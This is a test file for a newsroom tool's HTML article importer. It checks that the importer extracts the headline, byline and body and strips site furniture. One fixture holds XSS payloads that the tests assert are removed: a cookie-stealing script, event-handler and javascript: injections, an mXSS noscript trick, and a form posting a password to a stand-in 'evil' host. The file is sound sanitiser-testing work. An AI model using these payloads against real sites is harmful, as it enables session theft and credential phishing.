// HTML copy: sanitised before it is read, page furniture removed, structure
// kept (headline, standfirst, byline, crossheads, lists, quotes, marks).
import { describe, expect, it } from 'vitest';
import { importFile, importText } from '../../src/services/import/import-copy';
import { allFields, bodyLines, expectValidFields, topLevelTypes, utf8 } from './helpers';

const STORY = [
  'Ministers were today accused of hiding the true cost of the scheme from Parliament.',
  'The report, published by the National Audit Office, found that spending had doubled since 2021.',
  '“This is a scandal that should shame the government,” said the committee chair.',
];

describe('hostile HTML', () => {
  const hostile = `<!doctype html><html><head>
      <title>Evil</title>
      <script>window.stolen = document.cookie</script>
      <style>body { background: url(https://tracker.example/bg.png) } p { behavior: expression(alert(1)) }</style>
      <link rel="stylesheet" href="https://tracker.example/site.css">
      <meta http-equiv="refresh" content="0;url=https://evil.example">
    </head><body onload="alert('body')">
      <h1 onclick="alert('h1')">Audit office condemns spending</h1>
      <p>${STORY[0]}<script>alert('inline')</script></p>
      <p style="background-image: url('https://tracker.example/pixel.gif'); width: expression(alert(2))">${STORY[1]}
        <img src="https://tracker.example/pixel.gif" onerror="alert('img')" alt="pixel"></p>
      <p><a href="javascript:alert('link')">${STORY[2]}</a></p>
      <svg onload="alert('svg')"><text>svg text</text><script>alert('svg script')</script></svg>
      <iframe src="https://evil.example/frame"><p>iframe fallback</p></iframe>
      <object data="https://evil.example/flash.swf"></object>
      <embed src="https://evil.example/embed">
      <math><mtext><img src=x onerror=alert('math')></mtext></math>
      <noscript><img src="https://tracker.example/noscript.gif"></noscript>
      <template><script>alert('template')</script></template>
      <textarea><script>alert('textarea')</script></textarea>
      <p><img src=x onerror="alert('late')">Closing paragraph of the story, told plainly.</p>
      <form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">Send</button></form>
    </body></html>`;

  it('keeps the story and nothing that could run, load or call home', async () => {
    const copy = await importText(hostile, 'html');
    const fields = allFields(copy);
    for (const banned of [
      '<', 'script', 'alert', 'onerror', 'onload', 'onclick', 'javascript:', 'http', 'url(', 'expression',
      'iframe', 'svg', 'pixel', 'tracker', 'stolen', 'template', 'textarea', 'fallback', 'password', 'Send',
    ]) {
      expect(fields, `"${banned}" survived`).not.toContain(banned);
    }
    expect(copy.headline).toBe('Audit office condemns spending');
    expect(bodyLines(copy.body)).toEqual([...STORY, 'Closing paragraph of the story, told plainly.']);
    expectValidFields(copy);
  });

  it('is just as safe from a .html file', async () => {
    const copy = await importFile('evil.html', utf8(hostile));
    expect(allFields(copy)).not.toMatch(/script|alert|javascript:|onerror|https?:/i);
    expect(copy.headline).toBe('Audit office condemns spending');
  });

  it('drops event handlers and style on elements it keeps, and mXSS-style markup', async () => {
    const copy = await importText(
      `<h1>Headline here now</h1><p onmouseover="alert(1)" style="color:red">Plain words stay.</p>` +
        `<p><b onclick="alert(2)">Bold</b> words stay too.</p><noscript><p title="</noscript><img src=x onerror=alert(3)>"></p></noscript>` +
        `<details open ontoggle="alert(4)"><summary>More words stay.</summary></details>`,
      'html',
    );
    expect(allFields(copy)).not.toMatch(/alert|onerror|ontoggle|onclick|onmouseover|color:red|<img/);
    expect(bodyLines(copy.body)).toEqual(['Plain words stay.', 'Bold words stay too.', 'More words stay.']);
  });
});

describe('a web page with furniture around the article', () => {
  const page = `<!doctype html><html><body>
    <a class="skip-link" href="#main">Skip to main content</a>
    <header class="site-header"><div class="logo">The Daily Galley</div>
      <nav><ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li><li><a href="/sport">Sport</a></li></ul></nav>
    </header>
    <div class="cookie-banner">We use cookies to improve your experience. <button>Accept all</button></div>
    <main id="main">
      <article>
        <header>
          <h1>Hospital waiting lists reach record high</h1>
          <p class="standfirst">More than seven million people are now waiting for treatment, new figures show</p>
          <p class="byline">By <a href="/authors/jane">Jane Smith</a>, Health Correspondent</p>
        </header>
        <div class="share-tools"><a href="https://twitter.com/share">Share on Twitter</a> <a href="#">Share on Facebook</a></div>
        <div class="article-body">
          <p>Waiting lists in England have reached a <strong>record high</strong>, official figures published today show.</p>
          <p>The figures, from <em>NHS England</em>, show 7.6 million people waiting for treatment.</p>
          <h2>Winter pressure</h2>
          <p>Hospital leaders said the winter had been the hardest they could remember.</p>
          <aside class="related"><h3>Related stories</h3><ul><li><a href="/a">Nurses strike again</a></li></ul></aside>
          <p>The causes they listed were:</p>
          <ul><li>staff shortages</li><li>a rise in <em>flu</em> cases</li></ul>
          <h3>What happens next</h3>
          <blockquote><p>We will not rest until every patient is seen on time.</p><p>That is our promise.</p></blockquote>
          <ol start="3"><li>Review in March</li><li>Report in June</li></ol>
          <div class="advert">Advertisement</div>
          <p>Readers who wish to donate blood can share their details with their local hospital, the health secretary said.</p>
        </div>
        <div class="newsletter-signup"><p>Sign up to our daily newsletter</p><form><input type="email"><button>Subscribe</button></form></div>
      </article>
    </main>
    <section id="comments"><h2>Comments</h2><p>First! This is a very long comment that goes on and on about nothing at all, for a while.</p></section>
    <footer><p>© 2024 The Daily Galley. All rights reserved.</p><p>Follow us on Twitter</p></footer>
  </body></html>`;

  it('finds headline, standfirst and byline in the article header', async () => {
    const copy = await importText(page, 'html');
    expect(copy.headline).toBe('Hospital waiting lists reach record high');
    expect(copy.standfirst).toBe('More than seven million people are now waiting for treatment, new figures show');
    expect(copy.byline).toBe('Jane Smith, Health Correspondent');
    expectValidFields(copy);
  });

  it('keeps the body with its crossheads, lists, blockquote and marks', async () => {
    const { body } = await importText(page, 'html');
    expect(topLevelTypes(body)).toEqual([
      'paragraph', 'paragraph', 'heading', 'paragraph', 'paragraph', 'bulletList', 'heading', 'blockquote', 'orderedList', 'paragraph',
    ]);
    expect(body.content[2]).toEqual({ type: 'heading', attrs: { level: 2 }, content: [{ type: 'text', text: 'Winter pressure' }] });
    expect(body.content[6]).toMatchObject({ type: 'heading', attrs: { level: 3 } });
    expect(body.content[0]).toEqual({
      type: 'paragraph',
      content: [
        { type: 'text', text: 'Waiting lists in England have reached a ' },
        { type: 'text', text: 'record high', marks: [{ type: 'bold' }] },
        { type: 'text', text: ', official figures published today show.' },
      ],
    });
    expect(body.content[5]).toEqual({
      type: 'bulletList',
      content: [
        { type: 'listItem', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'staff shortages' }] }] },
        {
          type: 'listItem',
          content: [
            {
              type: 'paragraph',
              content: [
                { type: 'text', text: 'a rise in ' },
                { type: 'text', text: 'flu', marks: [{ type: 'italic' }] },
                { type: 'text', text: ' cases' },
              ],
            },
          ],
        },
      ],
    });
    expect(body.content[7]).toEqual({
      type: 'blockquote',
      content: [
        { type: 'paragraph', content: [{ type: 'text', text: 'We will not rest until every patient is seen on time.' }] },
        { type: 'paragraph', content: [{ type: 'text', text: 'That is our promise.' }] },
      ],
    });
    expect(body.content[8]).toMatchObject({ type: 'orderedList', attrs: { start: 3 } });
  });

  it('removes every piece of furniture, and a story sentence that says "donate" and "share" stays', async () => {
    const copy = await importText(page, 'html');
    const fields = allFields(copy);
    for (const furniture of [
      'Skip to main content', 'Daily Galley', 'Home', 'Sport', 'cookies', 'Accept all', 'Share on Twitter',
      'Share on Facebook', 'Related stories', 'Nurses strike', 'Advertisement', 'Sign up', 'Subscribe',
      'Comments', 'First!', '©', 'Follow us',
    ]) {
      expect(fields, `"${furniture}" survived`).not.toContain(furniture);
    }
    expect(bodyLines(copy.body)).toContain(
      'Readers who wish to donate blood can share their details with their local hospital, the health secretary said.',
    );
    expect(copy.furniture).toEqual(
      expect.arrayContaining([
        'page-skip: Skip to main content',
        'page-header: The Daily Galley Home News Sport',
        expect.stringMatching(/^page-cookie: We use cookies/),
        expect.stringMatching(/^page-comments: Comments First!/),
      ]),
    );
  });

  it('spares a story container whose class merely mentions sharing', async () => {
    const copy = await importText(
      `<div class="story has-share-bar"><h1>Council tax to rise again</h1>
        <p>Council tax bills will rise by five per cent from April, the council confirmed.</p>
        <p>Residents said the rise was the third in three years.</p></div>
       <div class="share"><p>Share this article</p></div>`,
      'html',
    );
    expect(copy.headline).toBe('Council tax to rise again');
    expect(bodyLines(copy.body)).toEqual([
      'Council tax bills will rise by five per cent from April, the council confirmed.',
      'Residents said the rise was the third in three years.',
    ]);
  });

  it('drops the site masthead h1 but keeps the story h1', async () => {
    const copy = await importText(
      `<header><h1>The Daily Galley</h1></header><article><h1>Bridge reopens after repairs</h1>
       <p>The bridge reopened on Monday after eight months of repairs.</p></article>`,
      'html',
    );
    expect(copy.headline).toBe('Bridge reopens after repairs');
    expect(allFields(copy)).not.toContain('Daily Galley');
  });

  it('reads a pasted fragment with no h1 by the plain-copy rules', async () => {
    const copy = await importText(
      '<p>Floods close the coast road</p><p>By <b>Sam Jones</b></p><p>The coast road was closed on Sunday after heavy rain.</p>',
      'html',
    );
    expect(copy.headline).toBe('Floods close the coast road');
    expect(copy.byline).toBe('Sam Jones');
    expect(copy.standfirst).toBe('');
    expect(bodyLines(copy.body)).toEqual(['The coast road was closed on Sunday after heavy rain.']);
  });

  it('does not make a standfirst of an intro inside a container with a "lead" class', async () => {
    const copy = await importText(
      `<div class="lead-story"><h1>Strike called off</h1>
        <p>The rail strike planned for Friday has been called off, the union said tonight after talks.</p>
        <p>${'Talks went on late into the night and both sides said progress had been made on pay. '.repeat(8)}</p></div>`,
      'html',
    );
    expect(copy.standfirst).toBe('');
    expect(bodyLines(copy.body)[0]).toMatch(/^The rail strike/);
  });

  it('reads a <br> in the h1 as a space, and an author <span> does not split its paragraph', async () => {
    const copy = await importText(
      '<h1>Storm warning<br>for the coast</h1><p>By <span class="author">Sam Jones</span></p><p>Winds of <span class="summary">90mph</span> are forecast.</p>',
      'html',
    );
    expect(copy.headline).toBe('Storm warning for the coast');
    expect(copy.byline).toBe('Sam Jones');
    expect(bodyLines(copy.body)).toEqual(['Winds of 90mph are forecast.']);
  });

  it('takes a standfirst from a dek element after the byline', async () => {
    const copy = await importText(
      '<h1>Storm warning for the coast</h1><div class="byline">By Sam Jones</div><h2 class="article-dek">Gusts of 90mph expected on Friday</h2><p>Winds are forecast.</p>',
      'html',
    );
    expect(copy).toMatchObject({ headline: 'Storm warning for the coast', byline: 'Sam Jones', standfirst: 'Gusts of 90mph expected on Friday' });
    expect(bodyLines(copy.body)).toEqual(['Winds are forecast.']);
  });

  it('quotes the text of <q> and splits lines at <br>', async () => {
    const copy = await importText('<h1>Quote test headline</h1><p>She said <q>enough</q> and left.<br>A second line.</p>', 'html');
    expect(bodyLines(copy.body)).toEqual(['She said “enough” and left.', 'A second line.']);
  });
});

describe('page furniture the markup names, for the sub to put back', () => {
  it('reports each removed element whole, with the paragraph it followed, so a fact box taken for an aside goes back where it was', async () => {
    const factBox = 'The pier was built in 1898 and last rebuilt in 1976, after a storm took its end away. It is 300 metres long and carries the ferry, a café and a lifeboat station, and has been listed since 1984.';
    const copy = await importText(
      `<nav><a>Home</a> <a>News</a></nav><article><h1>Pier reopens after storm</h1><p>The pier reopened on Monday.</p><aside class="factbox"><p>${factBox}</p></aside><p>Crowds gathered early, and the first ferry of the day left on time with every seat taken by islanders coming home after six weeks away.</p><p>The operator said the timetable would be back to normal from next week, with the extra summer sailings added in June as planned.</p></article>`,
      'html',
    );
    expect(copy.removed).toEqual([
      { rule: 'page-nav', text: 'Home News', after: null },
      { rule: 'page-aside', text: factBox, after: 'The pier reopened on Monday.' },
    ]);
  });
});
